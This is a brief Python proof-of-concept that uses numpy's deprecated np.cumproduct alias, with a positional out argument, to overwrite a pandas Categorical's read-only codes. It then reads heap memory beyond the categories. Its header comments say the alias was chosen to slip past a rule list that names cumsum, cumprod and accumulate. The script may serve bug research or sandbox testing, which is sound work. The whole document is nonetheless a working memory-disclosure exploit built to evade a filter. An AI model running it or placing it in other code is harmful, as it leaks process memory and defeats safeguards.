# source: numpy 1.24 numpy/core/fromnumeric.py cumproduct (deprecated alias of cumprod, still exported as np.cumproduct) -> multiply.accumulate(out=...), which in numpy 1.24 writes into arrays flagged read-only (the RULES name cumsum/cumprod/nancumsum/accumulate, not this alias)
# family: numpy running-total writer under an alias name (positional out) writes a Categorical's read-only codes -> out-of-bounds read
# goal: np.cumproduct(src, 0, None, cat.codes) gives a 2-category Categorical codes 3, 9, 27; np.asarray reads heap words past the categories
import numpy as np
import pandas as pd

cat = pd.Categorical(["a", "b", "a", "b"], categories=pd.Index([10, 20], dtype="int64"))
codes = cat.codes
np.cumproduct(np.array([3, 3, 3, 1], dtype=codes.dtype), 0, None, codes)
print("2 categories, codes", cat.codes)
print("values read past the categories:", [hex(v) for v in np.asarray(cat)])
